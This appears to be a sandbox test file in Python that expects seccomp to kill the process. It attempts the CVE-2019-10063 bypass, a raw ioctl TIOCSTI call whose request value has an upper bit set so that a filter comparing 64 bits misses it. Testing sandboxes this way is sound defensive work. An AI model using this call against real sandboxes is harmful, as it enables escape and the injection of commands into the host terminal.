# ends: forbidden system call
# stopped by: seccomp
# call: ioctl TIOCSTI
# CVE-2019-10063: a filter that compares 64 bits lets this through, and the kernel looks at 32.
import ctypes


def f(x):
    return ctypes.CDLL(None).syscall(16, 0, ctypes.c_uint64(0x1_0000_5412), b"x")
